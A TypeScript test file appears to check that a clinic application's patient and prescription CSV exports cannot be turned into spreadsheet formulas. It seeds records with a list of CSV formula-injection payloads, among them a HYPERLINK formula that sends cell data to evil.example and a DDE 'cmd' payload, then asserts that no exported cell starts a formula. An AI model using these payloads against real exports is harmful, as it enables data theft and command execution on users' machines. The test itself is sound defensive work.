import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { App } from '../../src/app.js';
import { buildTestApp } from '../helpers/app.js';
import { createOrganization, type TenantFixture } from '../helpers/tenants.js';

// French Excel opens a .csv with `;` as its separator, other programs with a tab; a reader that
// does not follow our quoting also breaks records on every line break. Whatever the reader, no
// cell of an export may begin with a character that makes it a formula.

const FORMULA_START = /^[=+\-@\t\r]/;

/** Text a clinic user could type, shaped to become a formula once a reader splits it. */
const HOSTILE = [
  '=1+1',
  'x;=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
  "x;=cmd|' /C calc'!A0;y",
  'x;+1',
  'x;-1',
  'x;@SUM(A1)',
  'x;\t=1+1',
  'x;\r=1+1',
  ';=1+1',
  'x;;=1+1',
  'x;"=1+1"',
  'x\t=1+1',
  'x\t"=1+1"',
  'ligne\n=1+1',
  'ligne\r\n=1+1',
  'ligne\r=1+1',
  'ligne\n"=1+1"',
  'fin;',
  'fin\t',
  'fin\n',
  'a,b;=1+1',
  '"=1+1"',
];

/**
 * How a spreadsheet reads `text` with `separator`: a field that begins with a quote runs to the
 * next lone quote (`""` is a quote), and what follows up to the separator is kept as it is; a
 * quote anywhere else is an ordinary character. Records end at CRLF, CR or LF outside quotes;
 * with `quotesSpanLines: false`, at every line break (a reader that splits lines first).
 */
function readAs(text: string, separator: string, { quotesSpanLines = true } = {}): string[] {
  const cells: string[] = [];
  const isBreak = (c: string | undefined) => c === '\r' || c === '\n';
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      while (i < text.length) {
        if (!quotesSpanLines && isBreak(text[i])) break;
        if (text[i] === '"' && text[i + 1] === '"') {
          cell += '"';
          i += 2;
        } else if (text[i] === '"') {
          i++;
          break;
        } else cell += text[i++];
      }
    }
    while (i < text.length && text[i] !== separator && !isBreak(text[i])) cell += text[i++];
    cells.push(cell);
    if (text[i] === separator) i++;
    else if (text[i] === '\r' && text[i + 1] === '\n') i += 2;
    else if (isBreak(text[i])) i++;
  }
  return cells;
}

interface Cell {
  value: string;
  quoted: boolean;
}

/** A strict RFC 4180 reader (`,`): the export's own format, to check every value comes back. */
function readRecords(text: string): Cell[][] {
  const records: Cell[][] = [];
  let record: Cell[] = [];
  let i = 0;
  while (i < text.length) {
    let value = '';
    const quoted = text[i] === '"';
    if (quoted) {
      for (i++; ; ) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"' && text[i + 1] === '"') {
          value += '"';
          i += 2;
        } else if (text[i] === '"') break;
        else value += text[i++];
      }
      i++;
    } else {
      while (i < text.length && !',\r\n"'.includes(text[i]!)) value += text[i++];
    }
    record.push({ value, quoted });
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      records.push(record);
      record = [];
      i += 2;
    } else throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
  }
  return records;
}

let app: App;
let clinic: TenantFixture;

beforeAll(async () => {
  app = await buildTestApp();
  clinic = await createOrganization(app, 'Clinique CSV');
  const patient = await app.inject({
    method: 'POST',
    url: '/api/patients',
    headers: clinic.doctor.headers,
    payload: { name: 'Patient témoin' },
  });
  expect(patient.statusCode, patient.body).toBe(201);
  for (const value of HOSTILE) {
    const created = await app.inject({
      method: 'POST',
      url: '/api/patients',
      headers: clinic.doctor.headers,
      payload: { name: value, phone: value, address: value, allergies: value, notes: value },
    });
    expect(created.statusCode, created.body).toBe(201);
    const prescribed = await app.inject({
      method: 'POST',
      url: '/api/prescriptions',
      headers: clinic.doctor.headers,
      payload: { patient_uuid: patient.json().uuid, medication: value, dosage: value, duration: value, notes: value },
    });
    expect(prescribed.statusCode, prescribed.body).toBe(201);
  }
});
afterAll(async () => {
  await app.close();
});

async function exported(resource: 'patients' | 'prescriptions'): Promise<string> {
  const res = await app.inject({ url: `/api/${resource}/export?format=csv`, headers: clinic.doctor.headers });
  expect(res.statusCode, res.body).toBe(200);
  expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
  return res.body.replace(/^\uFEFF/, '');
}

describe('issue 21 item 4: CSV formula injection through ;', () => {
  describe.each(['patients', 'prescriptions'] as const)('GET /api/%s/export', (resource) => {
    it('yields no formula to a reader splitting on ; (French Excel), quotes spanning lines or not', async () => {
      const text = await exported(resource);
      for (const quotesSpanLines of [true, false]) {
        const formulas = readAs(text, ';', { quotesSpanLines }).filter((cell) => FORMULA_START.test(cell));
        expect(formulas, `quotes span lines: ${quotesSpanLines}`).toEqual([]);
      }
    });

    it('yields no formula to a reader splitting on tabs', async () => {
      const text = await exported(resource);
      for (const quotesSpanLines of [true, false]) {
        const formulas = readAs(text, '\t', { quotesSpanLines }).filter((cell) => FORMULA_START.test(cell));
        expect(formulas, `quotes span lines: ${quotesSpanLines}`).toEqual([]);
      }
    });

    it('reads back, as RFC 4180 CSV, every stored value with only apostrophes added and no formula', async () => {
      const [header, ...rows] = readRecords(await exported(resource));
      const cells = rows.flat().map((cell) => cell.value);
      expect(cells.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
      const columns = resource === 'patients' ? ['name', 'notes'] : ['medication', 'notes'];
      for (const column of columns) {
        const at = header!.findIndex((cell) => cell.value === column);
        const values = rows.map((row) => row[at]!.value.replaceAll("'", ''));
        expect(values).toEqual(expect.arrayContaining(HOSTILE.map((v) => v.replaceAll("'", ''))));
      }
    });

    it('quotes every cell holding a separator (, or ;), a quote, CR, LF or a tab', async () => {
      const cells = readRecords(await exported(resource)).flat();
      const unquoted = cells.filter((cell) => /[,;"\r\n\t]/.test(cell.value) && !cell.quoted);
      expect(unquoted).toEqual([]);
      expect(cells.filter((cell) => cell.quoted).length).toBeGreaterThan(HOSTILE.length);
    });
  });
});
